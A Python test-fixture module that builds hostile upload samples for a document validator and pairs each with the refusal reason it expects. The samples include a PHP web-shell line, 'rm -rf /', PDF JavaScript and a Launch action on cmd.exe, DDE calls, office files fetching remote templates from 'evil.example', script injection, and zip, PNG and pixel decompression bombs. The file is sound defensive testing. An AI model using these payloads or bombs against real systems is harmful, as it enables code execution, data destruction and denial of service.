"""The corpus of files that must not get in: small, made here, each with the reason that the person reads."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from documents.kinds import Refusal
from tests.documents.files import (
    ODS,
    ODT,
    XML,
    chunk,
    docx,
    docx_parts,
    heic,
    open_parts,
    package,
    packed_objects,
    pdf,
    picture,
    png_header,
    xlsx_parts,
)

SCRIPT = b"<script>alert(1)</script>"
RELATION = (
    '<Relationships><Relationship Id="r" Type="http://x/{}" Target="https://evil.example/a" TargetMode="External"/>'
    "</Relationships>"
)


def words_bomb() -> bytes:
    """A PNG with a text that grows from kilobytes to a hundred megabytes."""
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 100_000_000, 9))
    whole = picture("PNG")
    return whole[:33] + bomb + whole[33:]


def zip_bomb() -> bytes:
    """A text of two hundred megabytes of nothing."""
    return package(docx_parts() | {"word/media.xml": b"\0" * 200_000_000})


def many_parts() -> bytes:
    """A text of six thousand parts."""
    return package(docx_parts() | {f"word/{number}.xml": b"" for number in range(6000)})


def zip_that_lies() -> bytes:
    """A bomb whose directory says that its parts are small."""
    whole = bytearray(package(docx_parts() | {"word/a.xml": b"\0" * 90_000_000}))
    small = struct.pack("<I", 1000)
    return bytes(whole.replace(struct.pack("<I", 90_000_000), small))


def overlapping_parts() -> bytes:
    """A hundred entries of the directory that all point at the same packed bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in docx_parts().items():
            written.writestr(name, content)
        written.writestr("word/a.bin", bytes(range(256)) * 40)
        first = written.infolist()[-1]
        for number in range(100):
            again = zipfile.ZipInfo(f"word/b{number}.bin")
            again.header_offset, again.CRC = first.header_offset, first.CRC
            again.compress_size, again.file_size = first.compress_size * 40, first.file_size
            again.compress_type = first.compress_type
            written.filelist.append(again)
    return out.getvalue()


def locked_package() -> bytes:
    """A text whose parts say that they are encrypted."""
    whole = bytearray(package(docx_parts()))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + place] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


def pdf_and_zip() -> bytes:
    """A PDF with an archive behind it."""
    return pdf(tail=package({"payload.txt": "hidden"}))


def zip_after_picture() -> bytes:
    """An office file that begins as something else."""
    return b"PK\x03\x04" + b"\0" * 64 + package(docx_parts())


Made = Callable[[], bytes]

HOSTILE: dict[str, tuple[Made, Refusal]] = {
    # No file that is known at all.
    "nothing": (lambda: b"", Refusal.EMPTY),
    "words": (lambda: b"This is no picture.", Refusal.UNKNOWN),
    "one byte": (lambda: b"\xff", Refusal.UNKNOWN),
    "zeroes": (lambda: b"\0" * 5000, Refusal.UNKNOWN),
    "gif": (lambda: picture("GIF"), Refusal.UNKNOWN),
    "bitmap": (lambda: picture("BMP"), Refusal.UNKNOWN),
    "tiff": (lambda: picture("TIFF"), Refusal.UNKNOWN),
    "icon": (lambda: picture("ICO"), Refusal.UNKNOWN),
    "photoshop": (lambda: b"8BPS" + b"\0" * 200, Refusal.UNKNOWN),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run\n", Refusal.UNKNOWN),
    "rich text": (lambda: rb"{\rtf1\ansi{\object\objocx}}", Refusal.UNKNOWN),
    # Pages and drawings that a browser would run.
    "web page": (lambda: b"<!doctype html><html>" + SCRIPT, Refusal.WEB_PAGE),
    "web page after spaces": (lambda: b" \r\n\t" * 40 + b"<HTML>" + SCRIPT, Refusal.WEB_PAGE),
    "web page in two-byte letters": (
        lambda: b"\xff\xfe" + "<html><script>x</script>".encode("utf-16-le"),
        Refusal.WEB_PAGE,
    ),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Refusal.WEB_PAGE),
    "svg with a head": (lambda: b'\xef\xbb\xbf<?xml version="1.0"?><svg onload="x"/>', Refusal.WEB_PAGE),
    "php": (lambda: b"<?php system($_GET[0]); ?>", Refusal.WEB_PAGE),
    # Programs and archives.
    "windows program": (lambda: b"MZ" + b"\0" * 200, Refusal.PROGRAM),
    "linux program": (lambda: b"\x7fELF" + b"\0" * 100, Refusal.PROGRAM),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.PROGRAM),
    "java program": (lambda: b"\xca\xfe\xba\xbe" + b"\0" * 40, Refusal.PROGRAM),
    "plain zip": (lambda: package({"a.txt": "a"}), Refusal.FOLDER),
    "java archive": (lambda: package({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"x"}), Refusal.FOLDER),
    "empty zip": (lambda: package({}), Refusal.FOLDER),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 50, Refusal.FOLDER),
    "seven zip": (lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, Refusal.FOLDER),
    "gzip": (lambda: b"\x1f\x8b\x08" + b"\0" * 50, Refusal.FOLDER),
    "slides": (lambda: package({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}), Refusal.FOLDER),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Refusal.OLD_OFFICE),
    # Broken pictures, and bombs of pixels.
    "only the mark of a jpeg": (lambda: b"\xff\xd8\xff\xe0", Refusal.BROKEN),
    "half a jpeg": (lambda: picture()[:300], Refusal.BROKEN),
    "half a png": (lambda: picture("PNG")[:60], Refusal.BROKEN),
    "half a webp": (lambda: picture("WEBP")[:40], Refusal.BROKEN),
    "half a heic": (lambda: heic()[:200], Refusal.BROKEN),
    "png with a broken checksum": (lambda: picture("PNG").replace(b"IDAT", b"IDAT\xff", 1), Refusal.BROKEN),
    "png of no width": (lambda: png_header(0, 10), Refusal.BROKEN),
    "png of a lie": (lambda: png_header(400, 400), Refusal.BROKEN),
    "png with a bomb of words": (words_bomb, Refusal.BROKEN),
    "gif behind a jpeg's mark": (lambda: b"\xff\xd8\xff" + picture("GIF"), Refusal.BROKEN),
    "bomb of pixels": (lambda: png_header(50_000, 50_000), Refusal.TOO_MANY_PIXELS),
    "largest bomb of pixels": (lambda: png_header(2**31 - 1, 2**31 - 1), Refusal.TOO_MANY_PIXELS),
    # PDFs.
    "half a pdf": (lambda: pdf()[:60], Refusal.BROKEN),
    "pdf with a script": (lambda: pdf(b"3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), Refusal.ACTIVE),
    "pdf with a script in disguise": (lambda: pdf(b"3 0 obj\n<< /#4aav#61Script 4 0 R >>\nendobj\n"), Refusal.ACTIVE),
    "pdf with a packed script": (lambda: pdf(packed_objects(b"3 0 << /S /JavaScript >>")), Refusal.ACTIVE),
    "pdf that starts a program": (lambda: pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), Refusal.ACTIVE),
    "pdf with a film": (lambda: pdf(b"3 0 obj\n<< /Subtype /RichMedia >>\nendobj\n"), Refusal.ACTIVE),
    "pdf with a packed bomb": (lambda: pdf(packed_objects(b"\0" * 40_000_000)), Refusal.BOMB),
    "locked pdf": (lambda: pdf(b"3 0 obj\n<< /Encrypt 4 0 R >>\nendobj\n"), Refusal.LOCKED),
    "pdf that is an archive too": (pdf_and_zip, Refusal.TWO_KINDS),
    "pdf that is a page too": (lambda: pdf(tail=b"<html>" + SCRIPT), Refusal.TWO_KINDS),
    "pdf with a page before it": (lambda: b"%PDF-1.7\n<html>" + SCRIPT + pdf(), Refusal.TWO_KINDS),
    "pdf with much behind its end": (lambda: pdf(tail=b"x" * 5000), Refusal.TWO_KINDS),
    # Office files.
    "broken office file": (lambda: package(docx_parts())[:-30], Refusal.BROKEN),
    "text with macros": (lambda: docx(**{"word__vbaProject.bin": b"x"}), Refusal.ACTIVE),
    "text with macros under another name": (
        lambda: package(docx_parts() | {"[Content_Types].xml": "<T c='application/vnd.ms-word.macroEnabled'/>"}),
        Refusal.ACTIVE,
    ),
    "text that fetches its template": (
        lambda: package(docx_parts() | {"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate")}),
        Refusal.ACTIVE,
    ),
    "text that fetches an object": (
        lambda: package(docx_parts() | {"word/_rels/document.xml.rels": RELATION.format("oleObject")}),
        Refusal.ACTIVE,
    ),
    "text with a hidden object": (lambda: docx(**{"word__embeddings__oleObject1.bin": b"x"}), Refusal.ACTIVE),
    "text with a control": (lambda: docx(**{"word__activeX__activeX1.xml": "<a/>"}), Refusal.ACTIVE),
    "text that calls another program": (lambda: package(docx_parts("DDEAUTO c:\\windows\\cmd.exe")), Refusal.ACTIVE),
    "text with a bomb of entities": (
        lambda: package(docx_parts() | {"word/a.xml": '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'}),
        Refusal.ACTIVE,
    ),
    "sheet with old macros": (lambda: package(xlsx_parts() | {"xl/macrosheets/sheet1.xml": "<a/>"}), Refusal.ACTIVE),
    "sheet that calls another program": (
        lambda: package(xlsx_parts() | {"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}),
        Refusal.ACTIVE,
    ),
    "open text with macros": (lambda: package(open_parts(ODT) | {"Basic/Standard/Module1.xml": "x"}), Refusal.ACTIVE),
    "open text with a script": (lambda: package(open_parts(ODT) | {"Scripts/python/a.py": "x"}), Refusal.ACTIVE),
    "open text with a button": (
        lambda: package(open_parts(ODT, '<script:event-listener script:language="ooo:script"/>')),
        Refusal.ACTIVE,
    ),
    "open sheet that calls another program": (
        lambda: package(open_parts(ODS, '<office:dde-source office:dde-application="cmd"/>')),
        Refusal.ACTIVE,
    ),
    "open text behind a password": (
        lambda: package(open_parts(ODT) | {"META-INF/manifest.xml": XML.format("<manifest:encryption-data/>")}),
        Refusal.LOCKED,
    ),
    "text behind a password": (locked_package, Refusal.LOCKED),
    "zip bomb": (zip_bomb, Refusal.BOMB),
    "zip bomb that lies": (zip_that_lies, Refusal.BROKEN),
    "zip of overlapping parts": (overlapping_parts, Refusal.BOMB),
    "zip of many parts": (many_parts, Refusal.BOMB),
    "office file behind something else": (zip_after_picture, Refusal.TWO_KINDS),
    "office file with words behind it": (lambda: package(docx_parts(), comment=SCRIPT), Refusal.TWO_KINDS),
}
